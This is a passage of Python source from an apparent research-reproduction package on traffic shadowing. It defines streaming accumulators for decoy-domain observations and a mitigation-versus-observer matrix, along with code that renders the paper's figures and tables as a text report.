        self._paths[path_key] = self._paths.get(path_key, 0) + 1
        origin_key = (decoy_protocol, event.request.protocol)
        address = event.origin_address
        self._origins.setdefault(origin_key, set()).add(address)
        if address in blocklist:
            self._listed.setdefault(origin_key, set()).add(address)

    def merge(self, other: "IncentiveAccumulator") -> None:
        _merge_counts(self._verdicts, other._verdicts)
        _merge_counts(self._paths, other._paths)
        _merge_sets(self._origins, other._origins)
        _merge_sets(self._listed, other._listed)

    def verdict_counts(self, decoy_protocol: Optional[str] = None) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for (protocol, verdict), count in self._verdicts.items():
            if decoy_protocol is None or protocol == decoy_protocol:
                counts[verdict] = counts.get(verdict, 0) + count
        return counts

    def path_counts(self, decoy_protocol: Optional[str] = None) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for (protocol, path), count in self._paths.items():
            if decoy_protocol is None or protocol == decoy_protocol:
                counts[path] = counts.get(path, 0) + count
        return counts

    def blocklist_rate(self, request_protocol: str,
                       decoy_protocol: Optional[str] = None) -> float:
        addresses: Set[str] = set()
        listed: Set[str] = set()
        for (protocol, req_proto), values in self._origins.items():
            if req_proto != request_protocol:
                continue
            if decoy_protocol is not None and protocol != decoy_protocol:
                continue
            addresses |= values
            listed |= self._listed.get((protocol, req_proto), set())
        if not addresses:
            return 0.0
        return len(listed) / len(addresses)

    def snapshot(self) -> dict:
        return {
            "verdicts": _sorted_pairs(self._verdicts),
            "paths": _sorted_pairs(self._paths),
            "origins": _sorted_set_pairs(self._origins),
            "listed": _sorted_set_pairs(self._listed),
        }

    @classmethod
    def from_snapshot(cls, data: dict) -> "IncentiveAccumulator":
        acc = cls()
        for key, count in data["verdicts"]:
            acc._verdicts[tuple(key)] = count
        for key, count in data["paths"]:
            acc._paths[tuple(key)] = count
        for key, values in data["origins"]:
            acc._origins[tuple(key)] = set(values)
        for key, values in data["listed"]:
            acc._listed[tuple(key)] = set(values)
        return acc


MATRIX_MITIGATIONS: Tuple[str, ...] = ("none", "ech", "doh")
"""Row order of the mitigation-vs-observer matrix."""

MATRIX_OBSERVER_CLASSES: Tuple[str, ...] = (
    "sni-dpi", "traffic-analysis", "dst-ip")
"""Column order: plaintext DPI sniffers, size/timing traffic analysis,
destination-IP correlation (see docs/OBSERVERS.md)."""


class MitigationMatrixAccumulator:
    """Which defense stops which observer class — the PR's deliverable.

    Rows are mitigations a decoy adopted on the wire, columns are
    observer classes; a cell counts the distinct Phase I decoy domains
    that class collected despite (or thanks to the absence of) that
    mitigation, over the domains sent with it.

    Everything is a domain *set*, so observations de-duplicate across
    retries, hops, and shards, and merge is plain union — order-free by
    construction.  The destination-IP column cannot decide per flow
    (linkage exists only once an address has been reused), so the
    accumulator stores per-(mitigation, destination) domain sets and
    applies ``link_threshold`` at render time: a destination counts as a
    flagged decoy sink when the union of domains it received — across
    all mitigations — reaches the threshold.

    ``enabled`` gates feeding: a default campaign keeps the matrix off,
    its snapshot key absent, and every pre-existing digest untouched.
    Merging adopts the enabled side's ``link_threshold`` (the disabled
    default state :meth:`AnalysisState.merged` folds from carries no
    information) and asserts equality when both sides are enabled.
    """

    def __init__(self, enabled: bool = False, link_threshold: int = 3):
        if link_threshold < 1:
            raise ValueError(
                f"link_threshold must be >= 1, got {link_threshold}")
        self.enabled = enabled
        self.link_threshold = link_threshold
        self._sent: Dict[str, Set[str]] = {}
        """Mitigation -> Phase I decoy domains sent with it."""
        self._classified: Dict[Tuple[str, str], Set[str]] = {}
        """(observer class, mitigation) -> domains that class collected
        (per-flow-decidable classes: sni-dpi, traffic-analysis)."""
        self._dst_domains: Dict[Tuple[str, str], Set[str]] = {}
        """(mitigation, destination address) -> domains carried there."""
        self._provenance: Dict[Tuple[str, str], int] = {}
        """(mitigation, provenance) -> correlated Phase I events."""

    def observe_sent(self, mitigation: str, domain: str) -> None:
        self._sent.setdefault(mitigation, set()).add(domain)

    def observe_classified(self, observer_class: str, mitigation: str,
                           domain: str) -> None:
        self._classified.setdefault(
            (observer_class, mitigation), set()).add(domain)

    def observe_flow(self, mitigation: str, domain: str, dst: str) -> None:
        self._dst_domains.setdefault((mitigation, dst), set()).add(domain)

    def observe_event(self, event) -> None:
        key = (event.decoy.mitigation, event.provenance)
        self._provenance[key] = self._provenance.get(key, 0) + 1

    def merge(self, other: "MitigationMatrixAccumulator") -> None:
        if other.enabled:
            if not self.enabled:
                self.enabled = True
                self.link_threshold = other.link_threshold
            elif self.link_threshold != other.link_threshold:
                raise AccumulatorMergeError(
                    f"matrix link thresholds disagree: "
                    f"{self.link_threshold} != {other.link_threshold}"
                )
        _merge_sets(self._sent, other._sent)
        _merge_sets(self._classified, other._classified)
        _merge_sets(self._dst_domains, other._dst_domains)
        _merge_counts(self._provenance, other._provenance)

    # -- render queries ----------------------------------------------------

    def flagged_destinations(self) -> Set[str]:
        """Destinations whose cross-mitigation domain reuse reaches the
        link threshold — the dst-ip correlator's decoy sinks."""
        totals: Dict[str, Set[str]] = {}
        for (_, dst), domains in self._dst_domains.items():
            totals.setdefault(dst, set()).update(domains)
        return {dst for dst, domains in totals.items()
                if len(domains) >= self.link_threshold}

    def rows(self) -> List[Tuple[str, int, Dict[str, int]]]:
        """(mitigation, sent count, {observer class -> classified count})
        in canonical row order, rows with no sends omitted."""
        flagged = self.flagged_destinations()
        out: List[Tuple[str, int, Dict[str, int]]] = []
        for mitigation in MATRIX_MITIGATIONS:
            sent = self._sent.get(mitigation)
            if not sent:
                continue
            linked: Set[str] = set()
            for (row_mitigation, dst), domains in self._dst_domains.items():
                if row_mitigation == mitigation and dst in flagged:
                    linked |= domains
            cells = {
                "sni-dpi": len(self._classified.get(
                    ("sni-dpi", mitigation), ())),
                "traffic-analysis": len(self._classified.get(
                    ("traffic-analysis", mitigation), ())),
                "dst-ip": len(linked),
            }
            out.append((mitigation, len(sent), cells))
        return out

    def provenance_counts(self) -> Dict[Tuple[str, str], int]:
        return dict(self._provenance)

    def snapshot(self) -> dict:
        return {
            "enabled": self.enabled,
            "link_threshold": self.link_threshold,
            "sent": [[mitigation, sorted(domains)]
                     for mitigation, domains in sorted(self._sent.items())],
            "classified": _sorted_set_pairs(self._classified),
            "dst_domains": _sorted_set_pairs(self._dst_domains),
            "provenance": _sorted_pairs(self._provenance),
        }

    @classmethod
    def from_snapshot(cls, data: dict) -> "MitigationMatrixAccumulator":
        acc = cls(enabled=data["enabled"],
                  link_threshold=data["link_threshold"])
        for mitigation, domains in data["sent"]:
            acc._sent[mitigation] = set(domains)
        for key, domains in data["classified"]:
            acc._classified[tuple(key)] = set(domains)
        for key, domains in data["dst_domains"]:
            acc._dst_domains[tuple(key)] = set(domains)
        for key, count in data["provenance"]:
            acc._provenance[tuple(key)] = count
        return acc


STATE_FORMAT_VERSION = 1


class AnalysisState:
    """The full accumulator family plus run-level counts.

    A live state (constructed with the ecosystem's IP directory and
    blocklist) can *observe*; a state restored with
    :meth:`from_snapshot` can only merge and render — by then every
    external lookup has already been resolved into the accumulators.

    Feeding protocol (what the campaign/shard wiring does):

    * ``observe_decoy(record)`` for every decoy at send time,
    * ``observe_event(event)`` for every *Phase I* unsolicited request
      (the artifacts all read ``phase1.events``),
    * ``observe_location(location)`` for every Phase II verdict,
    * ``set_log_entries(len(log))`` once per shard.
    """

    def __init__(self, directory=None, blocklist=None,
                 matrix_enabled: bool = False, matrix_link_threshold: int = 3):
        self.cdf = CdfAccumulator()
        self.combos = ComboAccumulator()
        self.origins = OriginAsAccumulator()
        self.multi_use = MultiUseAccumulator()
        self.landscape = LandscapeAccumulator()
        self.incentives = IncentiveAccumulator()
        self.matrix = MitigationMatrixAccumulator(
            enabled=matrix_enabled, link_threshold=matrix_link_threshold)
        self.decoy_counts: Dict[int, int] = {}
        """Phase -> decoys registered."""
        self.log_entries = 0
        self.event_count = 0
        self._directory = directory
        self._blocklist = blocklist

    # -- observe -----------------------------------------------------------

    def _require_intel(self) -> None:
        if self._directory is None or self._blocklist is None:
            raise RuntimeError(
                "this AnalysisState was restored from a snapshot and "
                "cannot observe events (no IP directory/blocklist); "
                "restored states only merge and render"
            )

    def observe_decoy(self, record) -> None:
        self.decoy_counts[record.phase] = self.decoy_counts.get(record.phase, 0) + 1
        self.combos.observe_decoy(record)
        self.landscape.observe_decoy(record)
        if self.matrix.enabled and record.phase == 1:
            self.matrix.observe_sent(record.mitigation, record.domain)

    def observe_event(self, event) -> None:
        self._require_intel()
        self.event_count += 1
        self.cdf.observe(event)
        self.combos.observe(event)
        self.origins.observe(event, self._directory, self._blocklist)
        self.multi_use.observe(event)
        self.landscape.observe(event)
        self.incentives.observe(event, self._blocklist)
        if self.matrix.enabled:
            self.matrix.observe_event(event)

    def observe_flow_classified(self, observer_class: str, mitigation: str,
                                domain: str) -> None:
        """A per-flow-decidable observer class collected ``domain``."""
        if self.matrix.enabled:
            self.matrix.observe_classified(observer_class, mitigation, domain)

    def observe_flow(self, mitigation: str, domain: str, dst: str) -> None:
        """A ciphertext observer saw a flow for ``domain`` toward ``dst``
        (feeds the render-time destination-IP correlation column)."""
        if self.matrix.enabled:
            self.matrix.observe_flow(mitigation, domain, dst)

    def observe_events(self, events: Iterable) -> None:
        for event in events:
            self.observe_event(event)

    def observe_location(self, location) -> None:
        self.origins.observe_location(location)
        self.landscape.observe_location(location)

    def observe_locations(self, locations: Iterable) -> None:
        for location in locations:
            self.observe_location(location)

    def set_log_entries(self, count: int) -> None:
        self.log_entries = count

    # -- merge -------------------------------------------------------------

    def merge(self, other: "AnalysisState") -> "AnalysisState":
        self.cdf.merge(other.cdf)
        self.combos.merge(other.combos)
        self.origins.merge(other.origins)
        self.multi_use.merge(other.multi_use)
        self.landscape.merge(other.landscape)
        self.incentives.merge(other.incentives)
        self.matrix.merge(other.matrix)
        _merge_counts(self.decoy_counts, other.decoy_counts)
        self.log_entries += other.log_entries
        self.event_count += other.event_count
        return self

    @classmethod
    def merged(cls, states: Sequence["AnalysisState"]) -> "AnalysisState":
        result = cls()
        for state in states:
            result.merge(state)
        return result

    # -- serialization -----------------------------------------------------

    def snapshot(self) -> dict:
        snap = {
            "format": STATE_FORMAT_VERSION,
            "cdf": self.cdf.snapshot(),
            "combos": self.combos.snapshot(),
            "origins": self.origins.snapshot(),
            "multi_use": self.multi_use.snapshot(),
            "landscape": self.landscape.snapshot(),
            "incentives": self.incentives.snapshot(),
            "decoy_counts": sorted(self.decoy_counts.items()),
            "log_entries": self.log_entries,
            "event_count": self.event_count,
        }
        if self.matrix.enabled:
            # Key absent when the matrix is off: a default campaign's
            # snapshot — and thus its digest — is byte-identical to
            # what it was before the matrix existed.
            snap["matrix"] = self.matrix.snapshot()
        return snap

    @classmethod
    def from_snapshot(cls, data: dict, directory=None,
                      blocklist=None) -> "AnalysisState":
        if data.get("format") != STATE_FORMAT_VERSION:
            raise ValueError(
                f"unsupported analysis-state format {data.get('format')!r}"
            )
        state = cls(directory=directory, blocklist=blocklist)
        state.cdf = CdfAccumulator.from_snapshot(data["cdf"])
        state.combos = ComboAccumulator.from_snapshot(data["combos"])
        state.origins = OriginAsAccumulator.from_snapshot(data["origins"])
        state.multi_use = MultiUseAccumulator.from_snapshot(data["multi_use"])
        state.landscape = LandscapeAccumulator.from_snapshot(data["landscape"])
        state.incentives = IncentiveAccumulator.from_snapshot(data["incentives"])
        if "matrix" in data:
            state.matrix = MitigationMatrixAccumulator.from_snapshot(
                data["matrix"])
        state.decoy_counts = {phase: count for phase, count in data["decoy_counts"]}
        state.log_entries = data["log_entries"]
        state.event_count = data["event_count"]
        return state

    def clone(self) -> "AnalysisState":
        """Deep copy via the canonical snapshot (keeps intel handles)."""
        return self.from_snapshot(self.snapshot(), directory=self._directory,
                                  blocklist=self._blocklist)

    def digest(self) -> str:
        """Content hash of the canonical snapshot; equal states hash
        equal regardless of observation or merge order."""
        canonical = json.dumps(self.snapshot(), sort_keys=True,
                               separators=(",", ":"))
        return hashlib.sha256(canonical.encode()).hexdigest()

"""One-shot report rendering every paper artifact from a finished run.

Used by the CLI (``python -m repro run``) and reusable on reloaded
bundles (:mod:`repro.core.persist`): anything exposing ``ledger``,
``log``, ``phase1``, ``phase2``, ``locations``, ``directory`` and
``blocklist`` attributes works.
"""

from typing import List

from repro.analysis.combos import http_https_share, shadowed_share
from repro.analysis.landscape import (
    destination_ratio_summary,
    destination_share,
    observer_location_table,
    problematic_path_ratios,
)
from repro.analysis.origins import (
    observer_as_groups,
    observer_country_counts,
    origin_as_distribution,
    origin_blocklist_rate,
    top_observer_ases,
)
from repro.analysis.payloads import incentive_report
from repro.analysis.report import percent, render_table
from repro.analysis.temporal import (
    dns_delay_cdfs,
    multi_use_stats,
    other_resolver_cdf,
    web_delay_cdfs,
)
from repro.datasets.resolvers import RESOLVER_H_NAMES
from repro.simkit.units import DAY, HOUR, MINUTE


def full_report(source, title: str = "Traffic shadowing measurement report",
                include_validation: bool = False) -> str:
    """Render all reproduced artifacts as one text document.

    ``include_validation`` appends the ground-truth recall section; it
    requires a live :class:`~repro.core.experiment.ExperimentResult`
    (reloaded bundles carry no ground truth) and is off by default so the
    same input always renders the same report.
    """
    sections: List[str] = [title, "=" * len(title)]

    ledger = source.ledger
    log = source.log
    phase1 = source.phase1
    locations = source.locations
    directory = source.directory if hasattr(source, "directory") else source.eco.directory
    blocklist = source.blocklist if hasattr(source, "blocklist") else source.eco.blocklist
    events = phase1.events

    sections.append(
        f"\ndecoys: {len(ledger.records(phase=1)):,} (phase I) + "
        f"{len(ledger.records(phase=2)):,} (phase II traceroute probes); "
        f"honeypot log entries: {len(log):,}; "
        f"unsolicited requests: {len(events):,}"
    )

    # Figure 3.
    rows = problematic_path_ratios(ledger, events)
    dns_summary = destination_ratio_summary(rows, "dns")
    ranked = sorted(dns_summary.items(), key=lambda item: -item[1])
    sections.append("\n" + render_table(
        ("DNS destination", "problematic paths"),
        [(name, percent(ratio)) for name, ratio in ranked if ratio > 0][:12],
        title="Figure 3 — problematic-path ratios (DNS)",
    ))

    # Table 2.
    table = observer_location_table(locations)
    sections.append("\n" + render_table(
        ["protocol"] + [str(hop) for hop in range(1, 11)],
        [[protocol.upper()] + [f"{table[protocol].get(hop, 0.0):.1f}"
                               for hop in range(1, 11)]
         for protocol in sorted(table)],
        title="Table 2 — normalized observer locations (%)",
    ))

    # Table 3.
    observer_rows = top_observer_ases(locations)
    sections.append("\n" + render_table(
        ("decoy", "AS", "network", "observer IPs", "share"),
        [(row.protocol.upper(), f"AS{row.asn}", row.as_name[:40],
          row.observers, percent(row.share)) for row in observer_rows],
        title="Table 3 — top observer networks",
    ))
    countries = observer_country_counts(locations)
    total_observers = sum(countries.values())
    if total_observers:
        sections.append(
            f"observer IPs by country: "
            + ", ".join(f"{country}={count}" for country, count
                        in sorted(countries.items(), key=lambda item: -item[1]))
        )

    # Figure 4.
    cdfs = dns_delay_cdfs(events)
    sections.append("\n" + render_table(
        ("resolver", "n", "<1m", "<1h", "<1d", "<10d"),
        [(name, len(cdf), percent(cdf.at(MINUTE)), percent(cdf.at(HOUR)),
          percent(cdf.at(DAY)), percent(cdf.at(10 * DAY)))
         for name, cdf in cdfs.items() if len(cdf)],
        title="Figure 4 — retention of DNS decoy data (Resolver_h)",
    ))
    other = other_resolver_cdf(events)
    if len(other):
        sections.append(
            f"other public resolvers: {percent(other.at(MINUTE))} of "
            f"{len(other)} unsolicited requests within one minute"
        )

    # Figure 5 digest.
    sections.append("\n" + render_table(
        ("destination", "shadowed", "drew HTTP/HTTPS"),
        [(name, percent(shadowed_share(ledger, events, name)),
          percent(http_https_share(ledger, events, name)))
         for name in RESOLVER_H_NAMES],
        title="Figure 5 — Resolver_h decoy outcomes",
    ))

    # Section 5.1 multi-use.
    stats = multi_use_stats(events)
    sections.append(
        f"\nSection 5.1 — of DNS decoys still active >1h after emission, "
        f"{percent(stats.share_more_than_3)} produced >3 unsolicited "
        f"requests and {percent(stats.share_more_than_10)} produced >10"
    )

    # Figure 6 digest.
    origin_rows = origin_as_distribution(events, directory, top_n=2)
    sections.append("\n" + render_table(
        ("destination", "request", "origin AS", "share"),
        [(row.destination_name, row.request_protocol.upper(),
          f"AS{row.asn} {row.as_name[:28]}", percent(row.share))
         for row in origin_rows],
        title="Figure 6 — top origins of unsolicited requests",
    ))
    sections.append(
        "origin blocklist rates (DNS decoys): "
        f"dns {percent(origin_blocklist_rate(events, blocklist, 'dns', 'dns'))}, "
        f"http {percent(origin_blocklist_rate(events, blocklist, 'http', 'dns'))}, "
        f"https {percent(origin_blocklist_rate(events, blocklist, 'https', 'dns'))}"
    )

    # Figure 7.
    web = web_delay_cdfs(events)
    sections.append("\n" + render_table(
        ("decoy", "n", "<1h", "<1d", "<3d"),
        [(protocol.upper(), len(cdf), percent(cdf.at(HOUR)),
          percent(cdf.at(DAY)), percent(cdf.at(3 * DAY)))
         for protocol, cdf in sorted(web.items())],
        title="Figure 7 — retention of HTTP/TLS decoy data",
    ))
    sections.append(
        f"observers at destination: dns {percent(destination_share(locations, 'dns'))}, "
        f"http {percent(destination_share(locations, 'http'))}, "
        f"tls {percent(destination_share(locations, 'tls'))}"
    )

    # Section 5.2 groups + incentives.
    groups = observer_as_groups(locations, events, directory)
    if groups:
        sections.append("\n" + render_table(
            ("observer AS", "paths", "share", "same-AS origins"),
            [(f"AS{group.asn} {group.as_name[:26]}", group.paths,
              percent(group.share_of_all_paths),
              percent(group.same_as_origin_share)) for group in groups],
            title="Section 5.2 — HTTP/TLS shadowing by observer AS",
        ))
    incentives = incentive_report(events, blocklist)
    sections.append(
        f"\nprobing incentives: {percent(incentives.enumeration_share)} path "
        f"enumeration, {percent(incentives.exploit_share)} exploit payloads "
        f"across {incentives.requests} unsolicited HTTP(S) requests"
    )

    # Geographic view (Figure 3's map form).
    from repro.analysis.geography import (
        country_destination_matrix,
        regional_ratios,
        render_heat_matrix,
    )
    cells = country_destination_matrix(ledger, events, "dns")
    if cells:
        sections.append("\nFigure 3 (map form) — DNS heat matrix:")
        sections.append(render_heat_matrix(cells, max_countries=14))
        regions = regional_ratios(cells)
        sections.append("by region: " + ", ".join(
            f"{region} {percent(ratio)}"
            for region, ratio in sorted(regions.items(), key=lambda item: -item[1])
        ))

    # Ground-truth validation, when the source carries a live ecosystem.
    if include_validation and hasattr(source, "eco"):
        from repro.analysis.validation import validate
        report = validate(source.eco.ground_truth, source.phase1,
                          source.phase2, ledger,
                          source.config.observation_window)
        sections.append(
            f"\nvalidation vs ground truth: recall "
            f"{percent(report.recall)} over {report.planted_domains} planted "
            f"domains, {report.false_domains} unexplained flags"
        )
    return "\n".join(sections) + "\n"

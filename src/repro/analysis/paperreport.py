"""One-shot report rendering every paper artifact from a finished run.

Used by the CLI (``python -m repro run``) and reusable on reloaded
bundles (:mod:`repro.core.persist`): anything exposing ``ledger``,
``log``, ``phase1``, ``locations``, ``directory`` and ``blocklist``
attributes works with :func:`full_report`.

The renderer is split from the analyses: :func:`batch_artifacts`
recomputes every figure/table from the raw correlation output (the
reference path), :func:`streaming_artifacts` reads the same values out of
a merged :class:`~repro.analysis.streaming.AnalysisState`, and both feed
one shared :func:`_render`.  Because every artifact the two paths
produce is bit-identical (see ``docs/STREAMING.md``), the rendered text
is byte-identical — ``tests/test_streaming_analysis.py`` holds both
paths to that.
"""

from typing import Dict, List, Optional

from repro.analysis.combos import (
    http_https_share,
    http_https_share_from_accumulator,
    shadowed_share,
    shadowed_share_from_accumulator,
)
from repro.analysis.landscape import (
    destination_ratio_summary,
    destination_share,
    destination_share_from_accumulator,
    observer_location_table,
    observer_location_table_from_accumulator,
    problematic_path_ratios,
    problematic_path_ratios_from_accumulator,
)
from repro.analysis.origins import (
    observer_as_groups,
    observer_as_groups_from_accumulator,
    observer_country_counts,
    observer_country_counts_from_accumulator,
    origin_as_distribution,
    origin_as_distribution_from_accumulator,
    origin_blocklist_rate,
    origin_blocklist_rate_from_accumulator,
    top_observer_ases,
    top_observer_ases_from_accumulator,
)
from repro.analysis.payloads import incentive_report, incentive_report_from_accumulator
from repro.analysis.report import percent, render_table
from repro.analysis.temporal import (
    dns_delay_cdfs,
    dns_delay_cdfs_from_accumulator,
    multi_use_stats,
    multi_use_stats_from_accumulator,
    other_resolver_cdf,
    other_resolver_cdf_from_accumulator,
    web_delay_cdfs,
    web_delay_cdfs_from_accumulator,
)
from repro.datasets.resolvers import RESOLVER_H_NAMES
from repro.simkit.units import DAY, HOUR, MINUTE


def batch_artifacts(source) -> Dict[str, object]:
    """Every rendered artifact, recomputed from the raw correlation
    output (the reference implementation)."""
    from repro.analysis.geography import cells_from_rows

    ledger = source.ledger
    log = source.log
    locations = source.locations
    directory = source.directory if hasattr(source, "directory") else source.eco.directory
    blocklist = source.blocklist if hasattr(source, "blocklist") else source.eco.blocklist
    events = source.phase1.events

    fig3_rows = problematic_path_ratios(ledger, events)
    return {
        "phase1_decoys": len(ledger.records(phase=1)),
        "phase2_decoys": len(ledger.records(phase=2)),
        "log_entries": len(log),
        "events": len(events),
        "fig3_rows": fig3_rows,
        "table2": observer_location_table(locations),
        "observer_rows": top_observer_ases(locations),
        "countries": observer_country_counts(locations),
        "fig4_cdfs": dns_delay_cdfs(events),
        "other_cdf": other_resolver_cdf(events),
        "fig5": [
            (name, shadowed_share(ledger, events, name),
             http_https_share(ledger, events, name))
            for name in RESOLVER_H_NAMES
        ],
        "multi_use": multi_use_stats(events),
        "fig6_rows": origin_as_distribution(events, directory, top_n=2),
        "blocklist_rates": tuple(
            origin_blocklist_rate(events, blocklist, protocol, "dns")
            for protocol in ("dns", "http", "https")
        ),
        "web_cdfs": web_delay_cdfs(events),
        "destination_shares": tuple(
            destination_share(locations, protocol)
            for protocol in ("dns", "http", "tls")
        ),
        "groups": observer_as_groups(locations, events, directory),
        "incentives": incentive_report(events, blocklist),
        "heat_cells": cells_from_rows(fig3_rows, "dns"),
        "matrix": _matrix_of(getattr(source, "analysis", None)),
    }


def _matrix_of(state):
    """The run's mitigation-vs-observer matrix accumulator, or None.

    The matrix has no batch recomputation path: per-observer-class
    attribution exists only at tap time, so both render paths read the
    same accumulator — which is exactly why their sections agree."""
    if state is None or not state.matrix.enabled:
        return None
    return state.matrix


def streaming_artifacts(state) -> Dict[str, object]:
    """The same artifacts read out of a merged
    :class:`~repro.analysis.streaming.AnalysisState` — O(state) instead
    of O(events); no ledger, log, IP directory or blocklist needed."""
    from repro.analysis.geography import cells_from_rows

    fig3_rows = problematic_path_ratios_from_accumulator(state.landscape)
    return {
        "phase1_decoys": state.decoy_counts.get(1, 0),
        "phase2_decoys": state.decoy_counts.get(2, 0),
        "log_entries": state.log_entries,
        "events": state.event_count,
        "fig3_rows": fig3_rows,
        "table2": observer_location_table_from_accumulator(state.landscape),
        "observer_rows": top_observer_ases_from_accumulator(state.origins),
        "countries": observer_country_counts_from_accumulator(state.origins),
        "fig4_cdfs": dns_delay_cdfs_from_accumulator(state.cdf),
        "other_cdf": other_resolver_cdf_from_accumulator(state.cdf),
        "fig5": [
            (name, shadowed_share_from_accumulator(state.combos, name),
             http_https_share_from_accumulator(state.combos, name))
            for name in RESOLVER_H_NAMES
        ],
        "multi_use": multi_use_stats_from_accumulator(state.multi_use),
        "fig6_rows": origin_as_distribution_from_accumulator(state.origins, top_n=2),
        "blocklist_rates": tuple(
            origin_blocklist_rate_from_accumulator(state.origins, protocol, "dns")
            for protocol in ("dns", "http", "https")
        ),
        "web_cdfs": web_delay_cdfs_from_accumulator(state.cdf),
        "destination_shares": tuple(
            destination_share_from_accumulator(state.landscape, protocol)
            for protocol in ("dns", "http", "tls")
        ),
        "groups": observer_as_groups_from_accumulator(state.origins),
        "incentives": incentive_report_from_accumulator(state.incentives),
        "heat_cells": cells_from_rows(fig3_rows, "dns"),
        "matrix": _matrix_of(state),
    }


def _render(artifacts: Dict[str, object], title: str,
            extra_sections: Optional[List[str]] = None) -> str:
    sections: List[str] = [title, "=" * len(title)]

    sections.append(
        f"\ndecoys: {artifacts['phase1_decoys']:,} (phase I) + "
        f"{artifacts['phase2_decoys']:,} (phase II traceroute probes); "
        f"honeypot log entries: {artifacts['log_entries']:,}; "
        f"unsolicited requests: {artifacts['events']:,}"
    )

    # Figure 3.  Ties rank alphabetically so the order is a pure function
    # of content, not of dict insertion order.
    dns_summary = destination_ratio_summary(artifacts["fig3_rows"], "dns")
    ranked = sorted(dns_summary.items(), key=lambda item: (-item[1], item[0]))
    sections.append("\n" + render_table(
        ("DNS destination", "problematic paths"),
        [(name, percent(ratio)) for name, ratio in ranked if ratio > 0][:12],
        title="Figure 3 — problematic-path ratios (DNS)",
    ))

    # Table 2.
    table = artifacts["table2"]
    sections.append("\n" + render_table(
        ["protocol"] + [str(hop) for hop in range(1, 11)],
        [[protocol.upper()] + [f"{table[protocol].get(hop, 0.0):.1f}"
                               for hop in range(1, 11)]
         for protocol in sorted(table)],
        title="Table 2 — normalized observer locations (%)",
    ))

    # Table 3.
    sections.append("\n" + render_table(
        ("decoy", "AS", "network", "observer IPs", "share"),
        [(row.protocol.upper(), f"AS{row.asn}", row.as_name[:40],
          row.observers, percent(row.share)) for row in artifacts["observer_rows"]],
        title="Table 3 — top observer networks",
    ))
    countries = artifacts["countries"]
    total_observers = sum(countries.values())
    if total_observers:
        sections.append(
            f"observer IPs by country: "
            + ", ".join(f"{country}={count}" for country, count
                        in sorted(countries.items(),
                                  key=lambda item: (-item[1], item[0])))
        )

    # Figure 4.
    cdfs = artifacts["fig4_cdfs"]
    sections.append("\n" + render_table(
        ("resolver", "n", "<1m", "<1h", "<1d", "<10d"),
        [(name, len(cdf), percent(cdf.at(MINUTE)), percent(cdf.at(HOUR)),
          percent(cdf.at(DAY)), percent(cdf.at(10 * DAY)))
         for name, cdf in cdfs.items() if len(cdf)],
        title="Figure 4 — retention of DNS decoy data (Resolver_h)",
    ))
    other = artifacts["other_cdf"]
    if len(other):
        sections.append(
            f"other public resolvers: {percent(other.at(MINUTE))} of "
            f"{len(other)} unsolicited requests within one minute"
        )

    # Figure 5 digest.
    sections.append("\n" + render_table(
        ("destination", "shadowed", "drew HTTP/HTTPS"),
        [(name, percent(shadowed), percent(webbed))
         for name, shadowed, webbed in artifacts["fig5"]],
        title="Figure 5 — Resolver_h decoy outcomes",
    ))

    # Section 5.1 multi-use.
    stats = artifacts["multi_use"]
    sections.append(
        f"\nSection 5.1 — of DNS decoys still active >1h after emission, "
        f"{percent(stats.share_more_than_3)} produced >3 unsolicited "
        f"requests and {percent(stats.share_more_than_10)} produced >10"
    )

    # Figure 6 digest.
    sections.append("\n" + render_table(
        ("destination", "request", "origin AS", "share"),
        [(row.destination_name, row.request_protocol.upper(),
          f"AS{row.asn} {row.as_name[:28]}", percent(row.share))
         for row in artifacts["fig6_rows"]],
        title="Figure 6 — top origins of unsolicited requests",
    ))
    dns_rate, http_rate, https_rate = artifacts["blocklist_rates"]
    sections.append(
        "origin blocklist rates (DNS decoys): "
        f"dns {percent(dns_rate)}, "
        f"http {percent(http_rate)}, "
        f"https {percent(https_rate)}"
    )

    # Figure 7.
    web = artifacts["web_cdfs"]
    sections.append("\n" + render_table(
        ("decoy", "n", "<1h", "<1d", "<3d"),
        [(protocol.upper(), len(cdf), percent(cdf.at(HOUR)),
          percent(cdf.at(DAY)), percent(cdf.at(3 * DAY)))
         for protocol, cdf in sorted(web.items())],
        title="Figure 7 — retention of HTTP/TLS decoy data",
    ))
    dns_share, http_share, tls_share = artifacts["destination_shares"]
    sections.append(
        f"observers at destination: dns {percent(dns_share)}, "
        f"http {percent(http_share)}, "
        f"tls {percent(tls_share)}"
    )

    # Section 5.2 groups + incentives.
    groups = artifacts["groups"]
    if groups:
        sections.append("\n" + render_table(
            ("observer AS", "paths", "share", "same-AS origins"),
            [(f"AS{group.asn} {group.as_name[:26]}", group.paths,
              percent(group.share_of_all_paths),
              percent(group.same_as_origin_share)) for group in groups],
            title="Section 5.2 — HTTP/TLS shadowing by observer AS",
        ))
    incentives = artifacts["incentives"]
    sections.append(
        f"\nprobing incentives: {percent(incentives.enumeration_share)} path "
        f"enumeration, {percent(incentives.exploit_share)} exploit payloads "
        f"across {incentives.requests} unsolicited HTTP(S) requests"
    )

    # Geographic view (Figure 3's map form).
    from repro.analysis.geography import regional_ratios, render_heat_matrix
    cells = artifacts["heat_cells"]
    if cells:
        sections.append("\nFigure 3 (map form) — DNS heat matrix:")
        sections.append(render_heat_matrix(cells, max_countries=14))
        regions = regional_ratios(cells)
        sections.append("by region: " + ", ".join(
            f"{region} {percent(ratio)}"
            for region, ratio in sorted(regions.items(),
                                        key=lambda item: (-item[1], item[0]))
        ))

    # Mitigation vs observer class (encrypted-transport scenarios only;
    # absent matrix keeps every pre-existing report byte-identical).
    matrix = artifacts.get("matrix")
    if matrix is not None:
        rows = matrix.rows()
        if rows:
            def cell(count: int, sent: int) -> str:
                return f"{count} ({percent(count / sent)})"

            sections.append("\n" + render_table(
                ("mitigation", "sent", "sni-dpi", "traffic-analysis",
                 "dst-ip"),
                [(mitigation, sent,
                  cell(cells["sni-dpi"], sent),
                  cell(cells["traffic-analysis"], sent),
                  cell(cells["dst-ip"], sent))
                 for mitigation, sent, cells in rows],
                title="Mitigation vs observer class — Phase I decoy "
                      "domains classified",
            ))
            provenance = matrix.provenance_counts()
            if provenance:
                sections.append("visit provenance: " + ", ".join(
                    f"{mitigation}/{kind}={count}"
                    for (mitigation, kind), count
                    in sorted(provenance.items())))

    if extra_sections:
        sections.extend(extra_sections)
    return "\n".join(sections) + "\n"


def full_report(source, title: str = "Traffic shadowing measurement report",
                include_validation: bool = False) -> str:
    """Render all reproduced artifacts as one text document (batch path).

    ``include_validation`` appends the ground-truth recall section; it
    requires a live :class:`~repro.core.experiment.ExperimentResult`
